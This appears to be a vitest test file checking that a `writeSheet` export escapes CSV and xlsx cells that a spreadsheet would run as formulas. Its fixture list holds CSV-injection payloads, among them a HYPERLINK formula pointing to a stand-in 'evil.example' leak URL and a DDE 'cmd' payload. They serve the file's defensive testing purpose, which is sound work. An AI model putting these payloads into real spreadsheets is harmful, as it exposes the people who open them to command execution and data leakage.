import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { isConfigurationError } from '../../src/errors/configuration-error.js';
import { writeSheet } from '../../src/index.js';

// `writeSheet`, exported for merchants' own result sheets, makes text inert: a cell starting
// with `=`, `+`, `-` or `@` (a name a customer typed, a message from the platform) would run as
// a formula when a person opens the CSV in a spreadsheet program (CSV injection). Every sheet
// writeSheet writes is safe to open; the bulk upload, which a program (the platform) reads, asks
// for its text exactly as given.

const dangerous = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];
const header = ['name', 'amount'];
const rows = [...dangerous.map((text) => [text, -5]), ['Asha', 1000]];

describe('writeSheet and formulas', () => {
  it('CSV: text that a spreadsheet would run starts with a quote; numbers and plain text are untouched', async () => {
    const text = (
      await writeSheet(
        'csv',
        ['=header', ...header],
        rows.map((r) => ['x', ...r]),
      )
    )
      .toString('utf8')
      .slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe("'=header,name,amount");
    expect(lines[1]).toBe(`x,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",-5`);
    expect(lines[2]).toBe("x,'+cmd|' /C calc'!A0,-5");
    expect(lines[3]).toBe("x,'-2+3,-5");
    expect(lines[4]).toBe("x,'@SUM(1+1),-5");
    expect(lines[5]).toBe(`x,"'\t=1+1",-5`);
    expect(lines[6]).toBe(`x,"'\r=1+1",-5`);
    // The CSV's own line break is CRLF: a lone LF stays inside the quoted field.
    expect(lines[7]).toBe(`x,"'\n=1+1",-5`);
    expect(lines[8]).toBe('x,Asha,1000');
  });

  it('CSV: a tab inside a cell is quoted, so a program guessing tab-separated fields finds no formula', async () => {
    const text = (await writeSheet('csv', ['a', 'b'], [['x\t=1', 'ok']])).toString('utf8');
    expect(text).toBe('\uFEFFa,b\r\n"x\t=1",ok\r\n');
  });

  it('xlsx: the same cells are text with the quote; numbers stay numbers', async () => {
    const bytes = await writeSheet('xlsx', header, rows);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as never);
    const sheet = workbook.worksheets[0]!;
    dangerous.forEach((text, index) => {
      // XML reads a carriage return back as a line feed: the quote is what matters.
      expect(sheet.getCell(`A${index + 2}`).value).toBe(`'${text}`.replace('\r', '\n'));
      expect(sheet.getCell(`B${index + 2}`).value).toBe(-5);
    });
    expect(sheet.getCell(`A${dangerous.length + 2}`).value).toBe('Asha');
  });

  it('an already inert cell is not quoted twice', async () => {
    const text = (await writeSheet('csv', ['a'], [["'=1+1"]])).toString('utf8');
    expect(text).toBe("\uFEFFa\r\n'=1+1\r\n");
  });

  it('{ inertFormulas: false } writes text exactly as given (a file for a program, not a person)', async () => {
    const text = (await writeSheet('csv', ['a'], [['=1+1']], { inertFormulas: false })).toString(
      'utf8',
    );
    expect(text).toBe('\uFEFFa\r\n=1+1\r\n');
  });

  it('a bad option is a ConfigurationError naming it', async () => {
    const error = await writeSheet('csv', ['a'], [['x']], {
      inertFormulas: 'no' as unknown as boolean,
    }).catch((caught: unknown) => caught);
    expect(isConfigurationError(error)).toBe(true);
    expect((error as { option: string }).option).toBe('inertFormulas');
  });
});
